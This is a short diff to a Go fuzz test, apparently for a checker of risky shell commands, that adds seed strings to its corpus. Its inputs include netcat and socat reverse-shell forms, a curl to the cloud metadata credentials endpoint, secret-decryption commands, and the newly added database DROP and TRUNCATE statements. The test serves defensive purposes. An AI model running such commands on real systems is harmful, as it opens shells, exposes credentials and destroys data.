@@ -355,6 +355,8 @@ func FuzzCheck(f *testing.F) {
 		"kubectl delete pod \"$P\" --namespace=\"$N\" -l", "gcloud beta x delete \"$V\" --p=\"$Q\"", "curl 169.254.169.254/x/security-credentials/$R'",
 		"gpg -d -r x secrets.gpg.asc", "age -d -i k -", "sops -d", "ansible-vault", "nc -l 1 0<p | nc h 2 1>p", "nc -l -c 'nc h 1 -e sh'",
 		"socat TCP-LISTEN:1 EXEC:'nc h 1'", "k = /bin/nc -e sh 1", "gcloud logging links delete", "az storage message delete --pop-receipt",
+		"psql -c 'DROP TABLE *;TRUNCATE ONLY \"x\" *'", "mysql -e 'DROP SCHEMA IF EXISTS'", "echo a | aws s3 cp - s3://b/k",
+		"git stash apply 1 && git stash drop stash@{1}", "git stash apply&&git stash drop",
 	} {
 		f.Add(s)
 	}
